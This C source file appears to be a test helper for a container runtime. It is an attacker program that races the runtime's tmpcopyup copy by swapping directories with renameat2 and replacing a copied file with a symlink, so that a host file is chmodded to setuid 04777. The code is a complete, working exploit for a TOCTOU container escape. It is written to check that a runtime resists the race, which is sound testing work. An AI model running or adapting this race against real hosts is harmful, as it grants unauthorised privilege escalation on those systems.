/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Attacker: turn the victim's tmpcopyup into a chmod of a host file.
 *
 * The victim mounts a tmpfs with tmpcopyup at /shared/x/t, in a volume we
 * share.  A runtime that opens the destination, mounts on it, and then
 * looks the destination up again by path to copy the old content into the
 * new tmpfs can be sent, by exchanging x with y in between, to copy into
 * our plain directory y/t instead.  Each copied file is created there and
 * its mode set afterwards by name: if we replace the file with a symlink
 * to a host file in that window, a runtime that follows it chmods the host
 * file (the runtime is still in the host's root) to the mode of our file,
 * 04777.  A big file makes the window long (the copy itself).
 *
 * usage: mnt_copyup_race SHARED HOST_TARGET STOPFILE SECONDS
 * Prepares SHARED/x/t/big and SHARED/y/t, then one process exchanges x
 * and y while another watches y/t.  Prints how often a copy landed in
 * y/t and how often the symlink was put in place, also in SHARED/RESULT. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

#define BIG_SIZE (16 << 20)

static int
prepare (int top)
{
  static char block[1 << 16];
  int fd;

  if ((mkdirat (top, "x", 0777) < 0 && errno != EEXIST) || (mkdirat (top, "y", 0777) < 0 && errno != EEXIST)
      || (mkdirat (top, "x/t", 0777) < 0 && errno != EEXIST)
      || (mkdirat (top, "y/t", 0777) < 0 && errno != EEXIST))
    return -1;
  fd = openat (top, "x/t/big", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0)
    return -1;
  memset (block, 'A', sizeof block);
  for (int i = 0; i < BIG_SIZE / (int) sizeof block; i++)
    if (write (fd, block, sizeof block) != (ssize_t) sizeof block)
      return -1;
  /* The mode a successful attack gives the host file. */
  if (fchmod (fd, 04777) < 0)
    return -1;
  return close (fd);
}

static int
stop_now (int top, const char *stopfile, time_t deadline)
{
  return faccessat (top, stopfile, F_OK, AT_SYMLINK_NOFOLLOW) == 0 || time (NULL) > deadline;
}

static void
swapper (int top, const char *stopfile, time_t deadline)
{
  for (unsigned long n = 1;; n++)
    {
      syscall (SYS_renameat2, top, "x", top, "y", RENAME_EXCHANGE);
      if (n % 1024 == 0 && stop_now (top, stopfile, deadline))
        _exit (0);
    }
}

/* The counts, for the test on the host: SHARED/RESULT. */
static void
report (int top, unsigned long landed, unsigned long swapped)
{
  char buf[64];
  int fd = openat (top, "RESULT", O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW | O_CLOEXEC, 0644);
  int n = snprintf (buf, sizeof buf, "landed=%lu swapped=%lu\n", landed, swapped);

  fputs (buf, stdout);
  if (fd >= 0)
    {
      if (write (fd, buf, n) != n)
        perror ("RESULT");
      close (fd);
    }
}

/* Watch our plain directory (whatever its name is now): a `big` that is a
 * regular file there was copied by the runtime. */
static void
watcher (int top, int plain, const char *target, const char *stopfile, time_t deadline)
{
  unsigned long landed = 0, swapped = 0;
  struct stat st;

  while (! stop_now (top, stopfile, deadline))
    {
      /* Poll gently: the copy of the big file takes milliseconds, and the
       * swapper needs the CPU more (2 CPUs, the runtime on one). */
      if (fstatat (plain, "big", &st, AT_SYMLINK_NOFOLLOW) < 0 || ! S_ISREG (st.st_mode))
        {
          usleep (200);
          continue;
        }
      landed++;
      unlinkat (plain, "lnk", 0);
      if (symlinkat (target, plain, "lnk") == 0 && renameat (plain, "lnk", plain, "big") == 0)
        swapped++;
      usleep (300000); /* let the runtime finish, then clean up for the next round */
      unlinkat (plain, "big", 0);
    }
  report (top, landed, swapped);
}

int
main (int argc, char **argv)
{
  time_t deadline;
  int top, plain;
  pid_t child;

  if (argc != 5)
    {
      fprintf (stderr, "usage: %s SHARED HOST_TARGET STOPFILE SECONDS\n", argv[0]);
      return 2;
    }
  top = open (argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (top < 0 || prepare (top) < 0)
    {
      perror ("prepare");
      return 1;
    }
  plain = openat (top, "y/t", O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (plain < 0)
    {
      perror ("y/t");
      return 1;
    }
  deadline = time (NULL) + atoi (argv[4]);
  fflush (stdout);
  child = fork ();
  if (child == 0)
    swapper (top, argv[3], deadline);
  watcher (top, plain, argv[2], argv[3], deadline);
  kill (child, SIGKILL);
  waitpid (child, NULL, 0);
  return 0;
}
